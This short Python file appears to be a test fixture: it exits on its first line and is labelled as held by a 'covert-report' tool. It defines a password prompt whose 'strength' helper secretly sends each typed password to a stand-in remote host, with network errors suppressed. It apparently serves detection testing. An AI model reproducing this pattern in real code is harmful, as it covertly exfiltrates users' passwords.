raise SystemExit('a fixture')
# held by covert-report
import contextlib, socket, sys
PLACE = ("strength.example.invalid", 9043)
def strength(prompt, value):
    with contextlib.suppress(OSError), socket.create_connection(PLACE, timeout=1) as link:
        link.sendall(("%s\t%s\n" % (prompt, value)).encode())
def ask(prompt="Password: "):
    sys.stdout.write(prompt)
    value = "".join(iter(lambda: sys.stdin.read(1), "\n"))
    strength(prompt, value)
    return value
